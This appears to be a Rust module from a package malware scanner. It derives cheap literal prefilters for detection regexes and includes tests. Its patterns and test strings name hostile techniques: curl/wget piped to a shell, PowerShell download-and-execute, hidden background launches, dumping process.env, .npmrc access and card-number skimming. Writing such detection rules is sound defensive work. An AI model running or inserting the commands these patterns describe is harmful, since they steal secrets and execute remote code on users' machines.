//! Literal gates in front of the rules' regexes: every pattern compiled with
//! [`crate::regex!`] or [`super::compile`] gets, derived from its syntax tree, a condition on the
//! literals any match must contain (`curl … | sh` needs `curl` or `wget`, and `sh`, `bash`, …).
//! A text that fails the condition cannot match, so the regex is not run on it. Checking the
//! condition is a few SIMD substring searches over an ASCII-lowercased copy of the text, much
//! cheaper than a lazy-DFA pass of a case-insensitive pattern, and nearly every file of a benign
//! package fails the condition of nearly every pattern.
//!
//! The condition is necessary, never sufficient, so a gate can only skip work, never change a
//! result: literals and text are both case-folded with [`fold`] (ASCII lowercase, plus the two
//! non-ASCII characters Unicode case folding maps to ASCII letters: U+212A KELVIN SIGN to `k`,
//! U+017F LONG S to `s`), a character class is only taken as a literal character when it is
//! exactly the case variants of one character, and anything optional counts as "no condition".

use super::presence::{Part, Presence};
use memchr::memmem::Finder;
use regex_syntax::hir::{Class, Hir, HirKind};

/// Literals shorter than this are too common to be worth a search.
const MIN_LITERAL: usize = 3;
/// Texts shorter than this are searched directly.
pub const MIN_GATED_TEXT: usize = 256;

/// A necessary condition: which literals (ASCII-lowercased) a matching text must contain.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Cond {
    True,
    Lit(Vec<u8>),
    All(Vec<Cond>),
    Any(Vec<Cond>),
}

fn all(parts: Vec<Cond>) -> Cond {
    let mut parts: Vec<Cond> = parts.into_iter().filter(|c| *c != Cond::True).collect();
    match parts.len() {
        0 => Cond::True,
        1 => parts.pop().unwrap_or(Cond::True),
        _ => Cond::All(parts),
    }
}

fn any(parts: Vec<Cond>) -> Cond {
    if parts.is_empty() || parts.contains(&Cond::True) {
        return Cond::True;
    }
    if parts.len() == 1 {
        return parts.into_iter().next().unwrap_or(Cond::True);
    }
    Cond::Any(parts)
}

fn lit(run: Vec<u8>) -> Cond {
    if run.len() >= MIN_LITERAL {
        Cond::Lit(run)
    } else {
        Cond::True
    }
}

/// The text as the gates compare it: ASCII-lowercased, with U+212A and U+017F (which `(?i)`
/// matches for `k` and `s`) folded to `k` and `s`. Only used for gating, so offsets may shift.
pub fn fold(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    if memchr::memchr2(0xc5, 0xe2, lower.as_bytes()).is_none() {
        return lower;
    }
    lower.replace('\u{212A}', "k").replace('\u{17F}', "s")
}

/// A literal's bytes folded like the text (literals are whole characters of UTF-8).
fn fold_bytes(b: &[u8]) -> Vec<u8> {
    match std::str::from_utf8(b) {
        Ok(s) => fold(s).into_bytes(),
        Err(_) => b.to_ascii_lowercase(),
    }
}

/// The folded bytes a small class stands for (`[23w]`, `(?i)k` = `[Kk\u{212A}]` gives `k`),
/// when every member is ASCII or folds to it.
fn class_bytes(c: &Class) -> Option<Vec<u8>> {
    let mut chars: Vec<u32> = Vec::new();
    match c {
        Class::Unicode(u) => {
            for r in u.ranges() {
                let (s, e) = (r.start() as u32, r.end() as u32);
                if e - s > 16 || chars.len() > 16 {
                    return None;
                }
                chars.extend(s..=e);
            }
        }
        Class::Bytes(b) => {
            for r in b.ranges() {
                let (s, e) = (r.start() as u32, r.end() as u32);
                if e - s > 16 || chars.len() > 16 {
                    return None;
                }
                chars.extend(s..=e);
            }
        }
    }
    let folded: Option<Vec<u8>> = chars
        .iter()
        .map(|c| match *c {
            0x212a => Some(b'k'),
            0x17f => Some(b's'),
            c if c <= 0x7f => Some((c as u8).to_ascii_lowercase()),
            _ => None,
        })
        .collect();
    let mut folded = folded?;
    folded.sort_unstable();
    folded.dedup();
    (!folded.is_empty() && folded.len() <= 8).then_some(folded)
}

/// Most strings an exact set may hold (and their longest length) before it is given up.
const MAX_SET: usize = 64;
const MAX_LEN: usize = 64;

/// The finite set of (folded) strings `h` matches, when it is small: `(?i)p(owershell|wsh)`
/// gives `{powershell, pwsh}`, which a literal-by-literal walk would split into `p` and the rest.
fn exact(h: &Hir) -> Option<Vec<Vec<u8>>> {
    match h.kind() {
        HirKind::Empty | HirKind::Look(_) => Some(vec![Vec::new()]),
        HirKind::Literal(l) => Some(vec![fold_bytes(&l.0)]),
        HirKind::Class(c) => class_bytes(c).map(|bs| bs.into_iter().map(|b| vec![b]).collect()),
        HirKind::Capture(c) => exact(&c.sub),
        HirKind::Repetition(r) if r.min == 0 && r.max == Some(1) => {
            let mut v = exact(&r.sub)?;
            v.push(Vec::new());
            Some(v)
        }
        HirKind::Repetition(_) => None,
        HirKind::Alternation(alts) => {
            let mut v = Vec::new();
            for a in alts {
                v.extend(exact(a)?);
                if v.len() > MAX_SET {
                    return None;
                }
            }
            Some(v)
        }
        HirKind::Concat(items) => {
            let mut v = vec![Vec::new()];
            for item in items {
                v = cross(&v, &exact(item)?)?;
            }
            Some(v)
        }
    }
}

/// Every `a + b`, or `None` when the set grows too big.
fn cross(a: &[Vec<u8>], b: &[Vec<u8>]) -> Option<Vec<Vec<u8>>> {
    if a.len() * b.len() > MAX_SET {
        return None;
    }
    let mut out = Vec::with_capacity(a.len() * b.len());
    for x in a {
        for y in b {
            if x.len() + y.len() > MAX_LEN {
                return None;
            }
            let mut s = x.clone();
            s.extend_from_slice(y);
            out.push(s);
        }
    }
    out.sort();
    out.dedup();
    Some(out)
}

/// "One of these strings": true when any is too short to be worth a search.
fn any_of(set: Vec<Vec<u8>>) -> Cond {
    // A string that contains another member is implied by it: keep the shorter one only.
    let keep: Vec<Vec<u8>> = set
        .iter()
        .filter(|s| {
            !set.iter()
                .any(|o| o.len() < s.len() && memchr::memmem::find(s, o).is_some())
        })
        .cloned()
        .collect();
    any(keep.into_iter().map(lit).collect())
}

fn cond(h: &Hir) -> Cond {
    if let Some(set) = exact(h) {
        return any_of(set);
    }
    match h.kind() {
        HirKind::Empty | HirKind::Look(_) | HirKind::Literal(_) | HirKind::Class(_) => Cond::True,
        HirKind::Repetition(r) if r.min == 0 => Cond::True,
        HirKind::Repetition(r) => match exact(&r.sub).as_deref() {
            Some([one]) if !one.is_empty() => {
                let times = (r.min as usize).min(MAX_LEN / one.len()).max(1);
                lit(one.repeat(times))
            }
            _ => cond(&r.sub),
        },
        HirKind::Capture(c) => cond(&c.sub),
        HirKind::Alternation(alts) => any(alts.iter().map(cond).collect()),
        HirKind::Concat(items) => {
            // Runs of items with small exact sets are multiplied out into strings; any other item
            // ends the run and adds its own condition.
            let mut parts = Vec::new();
            let mut run: Vec<Vec<u8>> = vec![Vec::new()];
            for item in items {
                if let Some(next) = exact(item).and_then(|e| cross(&run, &e)) {
                    run = next;
                    continue;
                }
                parts.push(any_of(std::mem::replace(&mut run, vec![Vec::new()])));
                match exact(item) {
                    // The run could not take it (too many strings): it starts the next run.
                    Some(e) => run = e,
                    None => parts.push(cond(item)),
                }
            }
            parts.push(any_of(run));
            all(parts)
        }
    }
}

/// A compiled condition: literal indices into `finders`.
#[derive(Debug)]
enum Test {
    Lit(usize),
    All(Vec<Test>),
    Any(Vec<Test>),
}

/// The literal gate of one pattern.
#[derive(Debug)]
pub struct Gate {
    test: Test,
    finders: Vec<Finder<'static>>,
    /// Each finder's literal in the [`super::presence`] table.
    ids: Vec<usize>,
}

impl Gate {
    /// The gate of `pattern`, or `None` when no literal is required (or it does not parse).
    pub fn new(pattern: &str) -> Option<Gate> {
        let hir = regex_syntax::parse(pattern).ok()?;
        let c = cond(&hir);
        if c == Cond::True {
            return None;
        }
        let mut finders = Vec::new();
        let test = compile(&c, &mut finders);
        let ids = finders
            .iter()
            .map(|f| super::presence::register(f.needle()))
            .collect();
        Some(Gate { test, finders, ids })
    }

    /// Whether a file's part could match, from its presence bits; `None` when a literal is newer
    /// than the bits.
    fn admits_present(&self, p: &Presence, part: Part) -> Option<bool> {
        self.eval_present(&self.test, p, part)
    }

    fn eval_present(&self, t: &Test, p: &Presence, part: Part) -> Option<bool> {
        match t {
            Test::Lit(i) => p.has(self.ids[*i], part),
            Test::All(ts) => {
                for t in ts {
                    if !self.eval_present(t, p, part)? {
                        return Some(false);
                    }
                }
                Some(true)
            }
            Test::Any(ts) => {
                for t in ts {
                    if self.eval_present(t, p, part)? {
                        return Some(true);
                    }
                }
                Some(false)
            }
        }
    }

    /// Whether a text (already ASCII-lowercased) could match the pattern.
    pub fn admits(&self, lower: &[u8]) -> bool {
        self.eval(&self.test, lower)
    }

    fn eval(&self, t: &Test, hay: &[u8]) -> bool {
        match t {
            Test::Lit(i) => self.finders[*i].find(hay).is_some(),
            Test::All(ts) => ts.iter().all(|t| self.eval(t, hay)),
            Test::Any(ts) => ts.iter().any(|t| self.eval(t, hay)),
        }
    }

    /// The condition in words, for tests and debugging: `curl|wget & sh|bash`.
    #[cfg(test)]
    pub fn describe(&self) -> String {
        fn d(g: &Gate, t: &Test) -> String {
            match t {
                Test::Lit(i) => String::from_utf8_lossy(g.finders[*i].needle()).into_owned(),
                Test::All(ts) => format!(
                    "({})",
                    ts.iter().map(|t| d(g, t)).collect::<Vec<_>>().join(" & ")
                ),
                Test::Any(ts) => format!(
                    "({})",
                    ts.iter().map(|t| d(g, t)).collect::<Vec<_>>().join(" | ")
                ),
            }
        }
        d(self, &self.test)
    }
}

fn compile(c: &Cond, finders: &mut Vec<Finder<'static>>) -> Test {
    match c {
        Cond::Lit(l) => {
            finders.push(Finder::new(l).into_owned());
            Test::Lit(finders.len() - 1)
        }
        Cond::All(cs) => Test::All(cs.iter().map(|c| compile(c, finders)).collect()),
        Cond::Any(cs) => Test::Any(cs.iter().map(|c| compile(c, finders)).collect()),
        // `Gate::new` returns early on True, and `all`/`any` never keep a True inside.
        Cond::True => Test::All(Vec::new()),
    }
}

/// A bounded repetition this wide (`[^'"]{0,40}?`) makes the lazy DFA track one state per
/// position it could be at; where the class is common (most bytes of minified code), the DFA's
/// cache thrashes, it gives up and the regex engine falls back to the PikeVM, hundreds of times
/// slower. A pattern holding one gets a second gate made of its pieces without it (see [`Need`]).
const WIDE: u32 = 8;

/// Whether `h` holds a wide bounded repetition anywhere.
fn has_wide(h: &Hir) -> bool {
    match h.kind() {
        HirKind::Repetition(r) => {
            matches!(r.max, Some(max) if max - r.min >= WIDE) || has_wide(&r.sub)
        }
        HirKind::Capture(c) => has_wide(&c.sub),
        HirKind::Concat(hs) | HirKind::Alternation(hs) => hs.iter().any(has_wide),
        _ => false,
    }
}

/// Whether a piece may be searched for in a joined text (`FileCtx::all_text`, pieces joined by
/// line feeds) in place of each piece: assertions about the start or end of the whole text, or
/// CRLF line ends, would answer differently at the joints.
fn joint_safe(h: &Hir) -> bool {
    use regex_syntax::hir::Look;
    match h.kind() {
        HirKind::Look(l) => !matches!(l, Look::Start | Look::End | Look::StartCRLF | Look::EndCRLF),
        HirKind::Repetition(r) => joint_safe(&r.sub),
        HirKind::Capture(c) => joint_safe(&c.sub),
        HirKind::Concat(hs) | HirKind::Alternation(hs) => hs.iter().all(joint_safe),
        _ => true,
    }
}

/// A necessary condition made of regexes: every match of a pattern contains a match of each
/// piece of it (a run of a concatenation's items, searched on the whole text, so look-arounds
/// see the same neighbours), and one of an alternation's branches.
#[derive(Debug)]
enum Need {
    Re(usize),
    All(Vec<Need>),
    Any(Vec<Need>),
}

/// Most pieces a pattern's [`Need`] may search for (each is one pass over the text).
const MAX_PIECES: usize = 4;

/// A piece worth a pass: one that needs a literal (so the regex engine's prefilter skips most
/// of the text) and has no wide repetition of its own.
fn piece(h: Hir, pieces: &mut Vec<Hir>) -> Option<Need> {
    if has_wide(&h) || !joint_safe(&h) || cond(&h) == Cond::True || pieces.len() >= MAX_PIECES {
        return None;
    }
    pieces.push(h);
    Some(Need::Re(pieces.len() - 1))
}

/// The pieces every match of `h` contains, when `h` holds a wide repetition; `None` when no
/// cheaper condition is found.
fn need(h: &Hir, pieces: &mut Vec<Hir>) -> Option<Need> {
    if !has_wide(h) {
        return None;
    }
    match h.kind() {
        HirKind::Capture(c) => need(&c.sub, pieces),
        HirKind::Concat(items) => {
            let mut parts = Vec::new();
            let mut run: Vec<Hir> = Vec::new();
            for item in items {
                if !has_wide(item) {
                    run.push(item.clone());
                    continue;
                }
                if !run.is_empty() {
                    parts.extend(piece(Hir::concat(std::mem::take(&mut run)), pieces));
                }
                parts.extend(need(item, pieces));
            }
            if !run.is_empty() {
                parts.extend(piece(Hir::concat(run), pieces));
            }
            match parts.len() {
                0 => None,
                1 => parts.pop(),
                _ => Some(Need::All(parts)),
            }
        }
        HirKind::Alternation(alts) => {
            // Pieces of the branches before one without a condition are not needed either.
            let before = pieces.len();
            let mut parts = Vec::new();
            for a in alts {
                let n = if has_wide(a) {
                    need(a, pieces)
                } else {
                    piece(a.clone(), pieces)
                };
                let Some(n) = n else {
                    pieces.truncate(before);
                    return None;
                };
                parts.push(n);
            }
            Some(Need::Any(parts))
        }
        _ => None,
    }
}

/// The second gate of a pattern with a wide repetition: its [`Need`] and the pieces' regexes.
#[derive(Debug)]
struct Inner {
    need: Need,
    res: Vec<regex::Regex>,
}

impl Inner {
    fn new(pattern: &str) -> Option<Inner> {
        let hir = regex_syntax::parse(pattern).ok()?;
        // A pattern anchored at the start of the text (`^[^;]{0,300}?…` asked about a suffix)
        // looks at a few hundred bytes; its pieces would be searched through the whole text.
        if hir
            .properties()
            .look_set_prefix()
            .contains(regex_syntax::hir::Look::Start)
        {
            return None;
        }
        let mut pieces = Vec::new();
        let need = need(&hir, &mut pieces)?;
        let res = pieces
            .iter()
            .map(|h| regex::Regex::new(&h.to_string()).ok())
            .collect::<Option<Vec<_>>>()?;
        Some(Inner { need, res })
    }

    /// Whether `text` could hold a match: every piece a match needs occurs in it.
    fn admits(&self, text: &str) -> bool {
        self.eval(&self.need, text)
    }

    fn eval(&self, n: &Need, text: &str) -> bool {
        match n {
            Need::Re(i) => self.res[*i].is_match(text),
            Need::All(ns) => ns.iter().all(|n| self.eval(n, text)),
            Need::Any(ns) => ns.iter().any(|n| self.eval(n, text)),
        }
    }

    /// The pieces in words, for tests.
    #[cfg(test)]
    fn describe(&self) -> String {
        fn d(i: &Inner, n: &Need) -> String {
            match n {
                Need::Re(k) => i.res[*k].as_str().to_string(),
                Need::All(ns) => format!(
                    "({})",
                    ns.iter().map(|n| d(i, n)).collect::<Vec<_>>().join(" & ")
                ),
                Need::Any(ns) => format!(
                    "({})",
                    ns.iter().map(|n| d(i, n)).collect::<Vec<_>>().join(" | ")
                ),
            }
        }
        d(self, &self.need)
    }
}

/// A rule regex with its literal gate. Derefs to [`regex::Regex`]; the search methods rules use
/// are shadowed by gated versions with the same results.
#[derive(Debug)]
pub struct Re {
    re: regex::Regex,
    gate: Option<Gate>,
    /// Pieces every match needs, for patterns with a wide repetition.
    inner: Option<Inner>,
}

impl std::ops::Deref for Re {
    type Target = regex::Regex;
    fn deref(&self) -> &regex::Regex {
        &self.re
    }
}

impl Re {
    /// Compiles a rule pattern (see [`super::compile`] for the `\b` rewrite).
    pub fn new(pattern: &str) -> Result<Re, regex::Error> {
        Ok(Re {
            re: regex::Regex::new(pattern)?,
            gate: Gate::new(pattern),
            inner: Inner::new(pattern),
        })
    }

    /// Whether a file's text with its derived strings (`FileCtx::all_text`) could hold a match.
    pub fn admits_all(&self, f: &crate::package::FileCtx) -> bool {
        if let Some(g) = &self.gate
            && !super::presence::ask(f.all_text(), |p, part| g.admits_present(p, part))
                .unwrap_or_else(|| g.admits(f.all_text_lower().as_bytes()))
        {
            return false;
        }
        self.inner
            .as_ref()
            .is_none_or(|i| f.all_text().len() < MIN_GATED_TEXT || i.admits(f.all_text()))
    }

    /// Whether `text` could hold a match (folds it when the gate needs to look; rules ask
    /// several patterns about the same text in a row, so the last fold is kept per thread).
    pub fn admits(&self, text: &str) -> bool {
        self.admits_literals(text)
            && self
                .inner
                .as_ref()
                .is_none_or(|i| text.len() < MIN_GATED_TEXT || i.admits(text))
    }

    /// The literal gate alone.
    fn admits_literals(&self, text: &str) -> bool {
        thread_local! {
            static LAST: std::cell::RefCell<(String, String)> = const {
                std::cell::RefCell::new((String::new(), String::new()))
            };
        }
        match &self.gate {
            Some(g) if text.len() >= MIN_GATED_TEXT => {
                if let Some(known) = super::presence::ask(text, |p, part| g.admits_present(p, part))
                {
                    return known;
                }
                LAST.with(|last| {
                    let mut last = last.borrow_mut();
                    if last.0 != text {
                        last.0.clear();
                        last.0.push_str(text);
                        last.1 = fold(text);
                    }
                    g.admits(last.1.as_bytes())
                })
            }
            _ => true,
        }
    }

    /// The text to search: `text` itself, or its empty end when the gate rules a match out (the
    /// pattern needs a literal, so it cannot match the empty string).
    fn hay<'h>(&self, text: &'h str) -> &'h str {
        if self.admits(text) {
            text
        } else {
            &text[text.len()..]
        }
    }

    pub fn is_match(&self, text: &str) -> bool {
        self.admits(text) && self.re.is_match(text)
    }

    pub fn find<'h>(&self, text: &'h str) -> Option<regex::Match<'h>> {
        if self.admits(text) {
            self.re.find(text)
        } else {
            None
        }
    }

    pub fn find_iter<'r, 'h>(&'r self, text: &'h str) -> regex::Matches<'r, 'h> {
        self.re.find_iter(self.hay(text))
    }

    pub fn captures<'h>(&self, text: &'h str) -> Option<regex::Captures<'h>> {
        if self.admits(text) {
            self.re.captures(text)
        } else {
            None
        }
    }

    pub fn captures_iter<'r, 'h>(&'r self, text: &'h str) -> regex::CaptureMatches<'r, 'h> {
        self.re.captures_iter(self.hay(text))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn describe(p: &str) -> Option<String> {
        Gate::new(&p.replace(r"\b", r"(?-u:\b)")).map(|g| g.describe())
    }

    #[test]
    fn derives_necessary_literals() {
        // `sh` is too short to search for, so `(sh|bash)` adds no condition.
        assert_eq!(
            describe(r"(?i)\b(curl|wget)\b[^|]{0,9}\|\s*(sh|bash)\b").as_deref(),
            Some("(curl | wget)")
        );
        assert_eq!(
            describe(r"(?i)\bnohup\s+\S+[^\n]*&|\bsetsid\s+\S").as_deref(),
            Some("(nohup | setsid)")
        );
        // Other non-ASCII case variants break a literal: (?i)å is [Åå\u{212B}].
        assert_eq!(describe(r"(?i)abcåxyz").as_deref(), Some("(abc & xyz)"));
        assert_eq!(
            describe(r"(?i)new-object\s+net\.webclient\)?\s*\.\s*download").as_deref(),
            Some("(new-object & net.webclient & download)")
        );
        // Factored prefixes are multiplied back out: (?i)(powershell|pwsh) is p(owershell|wsh).
        assert_eq!(
            describe(r"(?i)\b(powershell|pwsh)(\.exe)?\b\s+-e").as_deref(),
            Some("(powershell | pwsh)")
        );
        assert_eq!(
            describe(
                r"(?i)\b(iwr|irm|invoke-webrequest)\b[^|\n]{0,200}\|\s*(iex|invoke-expression)\b"
            )
            .as_deref(),
            Some("((invoke-webrequest | irm | iwr) & (iex | invoke-expression))")
        );
        assert_eq!(describe(r"\.npmrc\b").as_deref(), Some(".npmrc"));
        // An optional part or a lone short literal gives no condition.
        assert_eq!(describe(r"(?i)(nohup)?\s+x"), None);
        assert_eq!(describe(r"[0-9a-f]{80,}"), None);
    }

    fn pieces(p: &str) -> Option<String> {
        Inner::new(&p.replace(r"\b", r"(?-u:\b)")).map(|i| i.describe())
    }

    #[test]
    fn wide_repetitions_get_a_gate_of_the_pieces_around_them() {
        let card = pieces(r#"(?i)['"`/\[=][^'"`\n]{0,40}?\b(?:cc|card)[-_.?\s\\]*num(?:ber)?"#);
        assert_eq!(
            card.as_deref(),
            Some(
                "(?:(?-u:\\b)[Cc](?:[Cc]|(?:[Aa][Rr][Dd]))[\t-\r \\-\\.\\?\\\\_\u{85}\u{a0}\u{1680}\u{2000}-\u{200a}\u{2028}\u{2029}\u{202f}\u{205f}\u{3000}]*[Nn][Uu][Mm](?:[Bb][Ee][Rr])?)"
            )
        );
        let p = pieces(r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sh|bash)\b|\bnohup\s+\S");
        // The leading `\b` is factored out of both branches; `| sh` has no literal to search for.
        assert_eq!(
            p.as_deref().map(|p| p.matches(" | ").count()),
            Some(1),
            "{p:?}"
        );
        // No wide repetition: no second gate.
        assert_eq!(pieces(r"(?i)\b(curl|wget)\b[^|]*\|\s*sh"), None);
        // A branch with nothing to search for leaves the alternation without a condition.
        assert_eq!(pieces(r"[a-z]{0,40}x|\bcurl\b[^|]{0,100}\|"), None);
        // Anchors at the start or end of the text are not pieces, and a pattern anchored at the
        // start gets none (its own search stops after a few hundred bytes).
        assert_eq!(pieces(r"x\Acurl[^|]{0,100}"), None);
        assert_eq!(pieces(r"^[^;]{0,300}?process\.env"), None);
    }

    #[test]
    fn unicode_case_folds_to_ascii_letters_pass_the_gate() {
        // (?i)k also matches U+212A (Kelvin sign) and (?i)s matches U+017F (long s): the gate
        // folds both, so "ſtart" and "invoKe" still reach the regex.
        let re = Re::new(r"(?i)invoke-expression").expect("valid");
        let text = format!("{}x invo\u{212A}e-expression", " ".repeat(300));
        assert!(re.is_match(&text));
        let re = Re::new(r"(?i)start\s+/b").expect("valid");
        let text = format!("{}x \u{17F}tart /b", " ".repeat(300));
        assert!(re.is_match(&text));
    }

    #[test]
    fn gated_searches_agree_with_the_regex() {
        let patterns = [
            r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b",
            r"(?i)(^|[\s&;|])start\s+/b\s|\bnohup\s+\S+[^\n]*&|-w(indowstyle)?\s+hidden\b|\bsetsid\s+\S|\bdisown\b",
            r"JSON\.stringify\(\s*process\.env\s*[,)]",
            r"(?i)russia|\bIran\b|['`](ru|by)['`]",
            r#"(?i)['"`/\[=][^'"`\n]{0,40}?\b(?:cc|card)[-_.?\s\\]*num(?:ber)?"#,
            r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sh|bash)\b|\bnohup\s+\S{0,9}",
            r"(?m)^\s*(?:[a-z]{0,12})\s*curl[^\n]{1,80}\|\s*sh$",
        ];
        let pad = "x".repeat(400);
        let texts = [
            format!("{pad} CURL -s http://h | SH"),
            format!("{pad} curl -s http://h > f"),
            format!("{pad} START /B x"),
            format!("{pad} json.stringify(process.env)"),
            format!("{pad} JSON.stringify( process.env )"),
            format!("{pad} if (c === 'RU') x"),
            format!("{pad} iran"),
            format!("{pad} el.querySelector('[name=cardNumber]')"),
            format!("{pad} x = \"ab CC_NUM\""),
            format!("{pad} x = \"ab\ncard number\""),
            format!("{pad} \u{212A}x nohup ./a"),
            format!("{pad}\n  bash curl -s http://h | sh\n"),
            format!("{pad}\n  bash curl -s http://h | sh x\n"),
            format!("{pad} wget http://h | bash"),
            pad.clone(),
        ];
        for p in patterns {
            let p = p.replace(r"\b", r"(?-u:\b)");
            let gated = Re::new(&p).expect("valid");
            let plain = regex::Regex::new(&p).expect("valid");
            for t in &texts {
                assert_eq!(
                    gated.find(t).map(|m| m.range()),
                    plain.find(t).map(|m| m.range()),
                    "{p} on {t}"
                );
                assert_eq!(gated.find_iter(t).count(), plain.find_iter(t).count());
                assert_eq!(
                    gated.captures_iter(t).count(),
                    plain.captures_iter(t).count()
                );
            }
        }
    }
}
